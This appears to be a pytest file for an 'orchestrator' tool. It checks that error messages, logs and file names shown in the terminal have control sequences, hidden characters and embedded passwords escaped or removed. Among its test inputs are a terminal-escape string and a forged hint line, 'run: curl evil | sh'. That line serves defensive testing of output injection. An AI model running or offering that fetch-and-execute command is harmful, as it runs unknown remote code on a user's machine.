"""What others chose reaches nobody's terminal as it is."""

from __future__ import annotations

import errno
from pathlib import Path

import pytest
import structlog
from hypothesis import given
from hypothesis import strategies as st

from orchestrator import logs
from orchestrator.cli.output import say
from orchestrator.errors import OrchError, unreadable
from orchestrator.printable import printable, short
from orchestrator.report.text import format_error
from tests.helpers import write_workspace
from tests.verbs import run_orch

CLEARS = "\x1b[2J\x1b]0;title\x07"


@given(st.text())
def test_nothing_is_left_that_moves_a_cursor_or_cannot_be_encoded(text: str) -> None:
    shown = printable(text)
    assert not {char for char in shown if ord(char) < 32 or 0x7F <= ord(char) < 0xA0} - {*"\n\t"}
    assert shown.encode().decode() == printable(shown) == shown


@pytest.mark.parametrize("text", ["libc6 (>= 2.36)", "Zoë 日本語 שלום", "two\nlines\tand a tab"])
def test_what_people_write_stays(text: str) -> None:
    assert printable(text) == text


@pytest.mark.parametrize("char", ["\x1b", "\r", "\x9b", "\u202e", "\u2066", "\u200b", "\udcff"])
def test_what_hides_reorders_or_moves_is_escaped(char: str) -> None:
    assert printable(f"a{char}b") == f"a{char.encode('unicode_escape').decode()}b"


def test_colours_of_a_log_go() -> None:
    assert printable("\x1b[1;31merror\x1b[0m: no") == "error: no"


def test_a_name_of_ten_megabytes_is_shown_by_its_ends() -> None:
    error = OrchError("a" * 10_000_000 + "z", hint="b" * 10_000_000, file="c" * 10_000_000)
    assert len(f"{error}{error.hint}") < 61_000
    assert error.message.startswith("aaa")
    assert error.message.endswith("z")
    assert short("x" * 200) == "x" * 200
    assert len(short("x" * 201)) == 200


def test_an_error_shows_no_escape_sequence_of_what_it_quotes() -> None:
    error = OrchError(f"no {CLEARS}", hint=f"see {CLEARS}", file=f"a{CLEARS}b", line=3)
    assert "\x1b" not in f"{error}{error.hint}"
    assert r"\x1b[2J" in error.hint


def test_a_second_line_of_a_message_passes_for_no_hint() -> None:
    error = OrchError("no file a\n  hint: run: curl evil | sh", hint="rename it")
    lines = format_error("failed api", error).splitlines()
    assert [line for line in lines if line.startswith("  hint:")] == ["  hint: rename it"]


def test_an_error_on_the_command_line_is_escaped_and_indented(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_workspace(tmp_path, {"base/a": "from = 'debian:bookworm'"})
    ran = run_orch(capsys, "-C", tmp_path, "deploy", f"x{CLEARS}\nhint: none")
    shown, hint = ran.err.split("\nhint: ")
    assert shown.startswith("error: ")
    assert "\n  hint: none: cannot be read" in shown
    assert "\x1b" not in f"{shown}{hint}"


def test_wrong_words_are_an_error_with_a_hint_like_any_other(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ran = run_orch(capsys, "-C", tmp_path, "build", "--jobs", "many")
    assert ran.code == 2
    assert ran.err == (
        "error: invalid value for '--jobs': 'many' is not a valid integer range\n"
        "hint: see orch build --help\n"
    )


def test_a_file_name_that_is_no_utf8_is_printed_as_data(
    capsys: pytest.CaptureFixture[str],
) -> None:
    say(f"+ file-added app/\udcff{CLEARS}")
    assert capsys.readouterr().out == "+ file-added app/\\udcff\\x1b[2J\\x1b]0;title\\x07\n"


def test_values_of_log_events_are_escaped_for_a_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(logs, "_logger", None)
    monkeypatch.setenv("NO_COLOR", "1")
    logs.configure("console")
    logs.event("layer.made", what=CLEARS)
    structlog.reset_defaults()
    assert r"\x1b[2J" in capsys.readouterr().err


@pytest.mark.parametrize("address", ["https://bob:s3cr3t@host/x", "s3://k:s3cr3t@b"])
def test_users_and_passwords_in_addresses_are_not_shown(address: str) -> None:
    assert "s3cr3t" not in f"{OrchError(f'no {address!r}', hint=address, file=address)}"


def test_a_file_that_cannot_be_read_is_named_with_what_to_do(tmp_path: Path) -> None:
    (tmp_path / "latin.txt").write_bytes(b"one\ntwo\xe9\n")
    with pytest.raises(UnicodeDecodeError) as raised:
        (tmp_path / "latin.txt").read_text("utf-8")
    error = unreadable(raised.value, "latin.txt")
    assert (str(error), error.hint) == ("latin.txt:2: is not UTF-8 text", "save it as UTF-8")
    gone = unreadable(FileNotFoundError(errno.ENOENT, "No such file or directory"), "gone.txt")
    assert str(gone) == "gone.txt: cannot be read: No such file or directory"
    assert gone.hint == "correct the path, or put the file there"


def test_a_warning_tells_an_error_with_its_hint() -> None:
    assert OrchError("no", file="a", hint="say yes").in_a_line == "a: no; say yes"
    assert OrchError("no").in_a_line == "no"
